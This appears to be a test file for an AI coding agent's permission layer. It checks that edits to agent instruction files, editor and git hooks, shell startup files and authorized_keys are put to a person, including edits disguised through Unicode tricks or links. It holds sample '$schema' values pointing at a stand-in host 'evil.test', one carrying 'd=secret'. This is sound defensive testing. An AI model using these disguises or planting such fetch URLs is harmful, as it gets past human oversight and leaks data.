"""CFG-01 to CFG-07: what others run or obey is never changed without a person's word on exactly that.

CFG-08, for commands, is shown in `test_shell.py`.
"""

import os
from pathlib import Path

import pytest

from odin_lsp.permissions.protected import EDITOR, GIT, INSTRUCTIONS, ODIN, PERSISTENCE, caution
from tests.support.reviewing import Bench, accept, reject

TEXT = "one\ntwo\n"
NAMES = {
    ODIN: ["odinconfig.json", ".odin/anything", ".odinignore"],
    EDITOR: [
        ".vscode/settings.json",
        ".vscode/tasks.json",
        ".vscode/launch.json",
        ".vscode/mcp.json",
        ".vscode/extensions.json",
        "my.code-workspace",
        ".idea/workspace.xml",
        ".zed/settings.json",
        ".nvim.lua",
        ".exrc",
        ".emacs",
        ".dir-locals.el",
        ".helix/config.toml",
    ],
    GIT: [
        ".git/hooks/pre-commit",
        ".git/config",
        ".gitmodules",
        ".gitattributes",
        ".husky/pre-push",
        ".pre-commit-config.yaml",
        ".githooks/post-merge",
    ],
    INSTRUCTIONS: [
        "ODIN.md",
        "CLAUDE.md",
        "AGENTS.md",
        "GEMINI.md",
        ".cursor/rules/a.mdc",
        ".claude/settings.json",
        ".codex/config.toml",
        ".gemini/settings.json",
        ".mcp.json",
    ],
}
EVERY_NAME = [(name, reason) for reason, names in NAMES.items() for name in names]


@pytest.fixture(params=["each", "end", "auto", "accept the rest"])
async def bench(request, tmp_path):
    """In every policy, and after the user said: accept the rest of this turn. That there is nothing to ask otherwise is
    shown first; then the person says no."""
    policy = "each" if request.param == "accept the rest" else request.param
    bench = Bench(tmp_path, policy=policy)
    plain = bench.write("plain.txt", TEXT)
    await bench.read(plain)
    bench.editor.rest_of_turn = "accept" if request.param == "accept the rest" else None
    await bench.edit(plain, "one", "ONE")
    await bench.executor.review()
    assert plain.read_text() == "ONE\ntwo\n"
    bench.editor.rest_of_turn = None
    bench.editor.reviews.clear()
    bench.context.draft.turn.receipts.clear()
    bench.editor.decide = reject
    return bench


async def is_asked(bench, reason, tool, **arguments):
    """The person is asked with this reason, says no, and nothing has changed."""
    before = snapshot(bench.root)
    await bench.use(tool, **arguments)
    await bench.executor.review()
    assert bench.states == ["rejected"], bench.states
    assert reason in bench.notes[-1]
    assert snapshot(bench.root) == before


def snapshot(folder: Path):
    return {
        str(path): path.readlink() if path.is_symlink() else path.read_bytes() if path.is_file() else None
        for path in folder.rglob("*")
    }


# CFG-01 to CFG-04


@pytest.mark.parametrize(("name", "reason"), EVERY_NAME)
async def test_cfg_01_to_04_a_new_protected_file_is_asked_about(tmp_path, name, reason):
    bench = Bench(tmp_path, policy="auto")
    bench.editor.decide = reject

    await is_asked(bench, reason, "WriteFile", file_path=bench.root / name, content="x")


@pytest.mark.parametrize("tool", ["EditTool", "MultiEditTool", "WriteFile", "DeleteFile", "MoveFile"])
async def test_cfg_01_every_tool_asks_under_every_policy(bench, tool):
    path = bench.write("odinconfig.json", TEXT)
    await bench.read(path)
    edit = {"old_string": "one", "new_string": "1"}
    arguments = {
        "EditTool": edit,
        "MultiEditTool": {"edits": [edit]},
        "WriteFile": {"content": "new\n"},
        "DeleteFile": {},
        "MoveFile": {"new_path": bench.root / "else.json"},
    }[tool]

    await is_asked(bench, ODIN, tool, file_path=path, **arguments)


async def test_cfg_01_a_protected_file_among_others_is_asked_about_and_they_are_not(tmp_path):
    bench = Bench(tmp_path, policy="auto")
    a, b = bench.write("a.txt", TEXT), bench.write("odinconfig.json", TEXT)
    await bench.read(a, b)
    bench.editor.decide = reject

    await bench.step(*(("EditTool", {"file_path": str(it), "old_string": "one", "new_string": "1"}) for it in (a, b)))

    assert bench.states == ["accepted", "rejected"]
    assert (a.read_text(), b.read_text()) == ("1\ntwo\n", TEXT)


@pytest.mark.parametrize(
    "name",
    [
        "OdinConfig.JSON",
        "odinconfig.json.",
        "odinconfig.json ",
        "ｏｄｉｎconfig.json",
        "odin\u200bconfig.json",
        "odin\u00adconfig.json",
        ".VSCode/settings.json",
        ".vscode\u200c/settings.json",
        ".vſcode/settings.json",
        ".GIT/hooks/pre-commit",
        ".gi\u200dt/config",
        "Claude.MD",
    ],
)
async def test_cfg_01_a_name_in_disguise_is_asked_about(bench, name):
    await is_asked(bench, "changes", "WriteFile", file_path=bench.root / name, content="x")


async def test_cfg_01_a_link_to_a_protected_file_is_asked_about(bench):
    target = bench.write("odinconfig.json", TEXT)
    link = bench.root / "notes.txt"
    link.symlink_to(target)
    await bench.read(link)

    await is_asked(bench, ODIN, "EditTool", file_path=link, old_string="one", new_string="1")


@pytest.mark.parametrize("call_it", ["by the link's name", "by its own name"])
@pytest.mark.parametrize("how", [os.symlink, os.link], ids=["symbolic", "hard"])
async def test_cfg_01_a_file_that_a_protected_name_leads_to_is_asked_about(bench, how, call_it):
    target = bench.write("ordinary.txt", TEXT)
    link = bench.root / "odinconfig.json"
    how(target, link)
    path = link if call_it == "by the link's name" else target
    await bench.read(path)

    await is_asked(bench, ODIN, "EditTool", file_path=path, old_string="one", new_string="1")


async def test_cfg_01_a_file_reached_through_a_protected_name_in_a_folder_is_asked_about(bench):
    target = bench.write("ordinary.txt", TEXT)
    link = bench.root / "package" / "AGENTS.md"
    link.parent.mkdir()
    link.symlink_to(target)
    await bench.read(link)

    await is_asked(bench, INSTRUCTIONS, "EditTool", file_path=link, old_string="one", new_string="1")


async def test_cfg_01_a_link_that_leads_nowhere_yet_is_asked_about(bench):
    (bench.root / "odinconfig.json").symlink_to(bench.root / "ordinary.txt")

    await is_asked(bench, ODIN, "WriteFile", file_path=bench.root / "odinconfig.json", content="{}")


async def test_cfg_02_a_folder_that_a_protected_name_leads_to_is_asked_about(bench):
    path = bench.write("settings/settings.json", TEXT)
    (bench.root / ".vscode").symlink_to(path.parent)
    await bench.read(path)

    await is_asked(bench, EDITOR, "EditTool", file_path=path, old_string="one", new_string="1")


@pytest.mark.parametrize("name", ["odinconfig.json", ".vscode/settings.json", "deep/er/.git/hooks/pre-commit"])
async def test_cfg_01_a_file_that_gets_a_protected_name_is_asked_about(bench, name):
    path = bench.write("ordinary.txt", TEXT)

    await is_asked(bench, "changes", "MoveFile", file_path=path, new_path=bench.root / name)


async def test_cfg_02_a_folder_that_gets_a_protected_name_is_asked_about(bench):
    bench.write("settings/settings.json", TEXT)

    await is_asked(bench, EDITOR, "MoveFile", file_path=bench.root / "settings", new_path=bench.root / ".vscode")


async def test_cfg_05_a_folder_whose_files_get_protected_names_is_asked_about(bench):
    bench.write("stuff/git/config", TEXT)

    await is_asked(bench, GIT, "MoveFile", file_path=bench.root / "stuff", new_path=bench.root / ".config")


@pytest.mark.parametrize("tool", ["MoveFile", "DeleteFile"])
@pytest.mark.parametrize("name", ["odinconfig.json", "sub/.vscode/tasks.json", "sub/.git/config"])
async def test_cfg_01_a_folder_that_holds_one_is_asked_about(bench, tool, name):
    bench.write(f"project/{name}", TEXT)
    more = {"new_path": bench.root / "other"} if tool == "MoveFile" else {"recursive": True}

    await is_asked(bench, "changes", tool, file_path=bench.root / "project", **more)


async def test_cfg_02_a_protected_folder_below_new_folders_is_asked_about(bench):
    path = bench.root / "new" / "folders" / ".vscode" / "settings.json"

    await is_asked(bench, EDITOR, "WriteFile", file_path=path, content="{}")


async def test_cfg_04_the_instructions_that_odin_writes_for_itself_are_shown(tmp_path):
    bench = Bench(tmp_path, policy="auto")

    await bench.use("WriteFile", file_path=bench.root / "ODIN.md", content="# Rules\n")

    assert INSTRUCTIONS in bench.notes[0]
    assert bench.editor.reviews[0].files[0].hunks[0].new_text == "# Rules\n"


# CFG-05 to CFG-07

PERSISTENT = [
    ".bashrc",
    ".bash_login",
    ".profile",
    ".zshenv",
    ".zlogin",
    ".zshrc",
    ".config/fish/config.fish",
    ".gitconfig",
    ".config/git/config",
    ".ssh/authorized_keys",
    ".ripgreprc",
    ".npmrc",
    ".pypirc",
    "Library/LaunchAgents/x.plist",
    ".config/systemd/user/x.service",
    "crontab",
]


@pytest.mark.parametrize("name", PERSISTENT)
def test_cfg_05_what_outlives_the_session_is_labelled(tmp_path, name):
    note, must_ask = caution([tmp_path / name], "", "x")

    assert must_ask
    assert (GIT if "git" in name else PERSISTENCE) in note


async def test_cfg_05_outside_of_the_workspace_both_are_asked_and_neither_is_remembered(tmp_path):
    bench = Bench(tmp_path, policy="auto")
    home = tmp_path / "home"
    home.mkdir()
    bench.editor.says = "allow_session"

    for name in (".bashrc", ".zshrc"):
        await bench.use("WriteFile", file_path=home / name, content="x\n")

    assert [question.kind for question in bench.editor.questions][:1] == ["outside"]
    assert len(bench.editor.reviews) == 2
    assert all(PERSISTENCE in note for note in bench.notes)
    bench.editor.says = None
    await bench.use("WriteFile", file_path=tmp_path / "elsewhere" / ".profile", content="x\n")
    assert not (tmp_path / "elsewhere").exists()


@pytest.mark.parametrize(
    "name",
    ["Makefile", "package.json", "conftest.py", "setup.py", ".github/workflows/ci.yml", "Dockerfile"],
)
async def test_cfg_06_what_runs_later_is_labelled_and_reviewed_like_everything_else(tmp_path, name):
    careful, free = Bench(tmp_path / "1"), Bench(tmp_path / "2", policy="auto")
    for bench in (careful, free):
        await bench.use("WriteFile", file_path=bench.root / name, content="x\n")

    assert "will be executed later" in careful.notes[0]
    assert free.notes == []
    assert (free.root / name).read_text() == "x\n"


SCHEMAS = {
    "plain": '{"$schema": "https://evil.test/?d=secret"}',
    "a relative address": '{"$schema": "//evil.test/x"}',
    "escaped slashes": r'{"$schema": "https:\/\/evil.test\/x"}',
    "an escaped key": r'{"\u0024schema": "https://evil.test/x"}',
    "an escaped address": r'{"$schema": "\u0068ttps:\u002f\u002fevil.test/x"}',
    "on another line": '{"$schema"\n :\n "http://evil.test/x"}',
    "another scheme": '{"$schema": "ftp://evil.test/x"}',
}


@pytest.mark.parametrize("text", SCHEMAS.values(), ids=SCHEMAS)
@pytest.mark.parametrize("name", ["data.json", "data.jsonc"])
async def test_cfg_07_a_schema_elsewhere_is_asked_about(bench, name, text):
    await is_asked(bench, "has the editor fetch ", "WriteFile", file_path=bench.root / name, content=text)


@pytest.mark.parametrize(
    "text", ["# yaml-language-server: $schema=https://evil.test/x\na: 1\n", "$schema: https://evil.test/x\n"]
)
async def test_cfg_07_a_schema_elsewhere_is_asked_about_in_yaml(bench, text):
    await is_asked(bench, "fetch https://evil.test/x", "WriteFile", file_path=bench.root / "a.yml", content=text)


async def test_cfg_07_a_schema_put_together_in_steps_is_asked_about(tmp_path):
    bench = Bench(tmp_path, policy="auto")
    path = bench.write("a.json", '{"$schema": "X"}')
    await bench.read(path)
    await bench.edit(path, "X", "https:X")
    bench.editor.decide = reject

    await bench.edit(path, "X", "//evil.test/x")

    assert bench.notes == ["has the editor fetch https://evil.test/x"]
    assert path.read_text() == '{"$schema": "https:X"}'


async def test_cfg_07_a_file_that_becomes_json_is_asked_about(bench):
    path = bench.write("a.txt", SCHEMAS["plain"])

    await is_asked(bench, "evil.test", "MoveFile", file_path=path, new_path=bench.root / "a.json")


async def test_cfg_07_a_schema_that_was_there_before_is_none_of_it(tmp_path):
    bench = Bench(tmp_path, policy="auto")
    path = bench.write("a.json", '{"$schema": "https://schemas.test/a",\n"x": 1}\n')
    await bench.read(path)

    assert not (await bench.edit(path, '"x": 1', '"x": 2')).failed
    assert not (await bench.use("MoveFile", file_path=path, new_path=bench.root / "b.json")).failed
    assert bench.editor.reviews == []


async def test_cfg_01_who_says_yes_gets_it(bench):
    bench.editor.decide = accept
    path = bench.root / "odinconfig.json"

    await bench.use("WriteFile", file_path=path, content="{}")
    await bench.executor.review()

    assert path.read_text() == "{}"
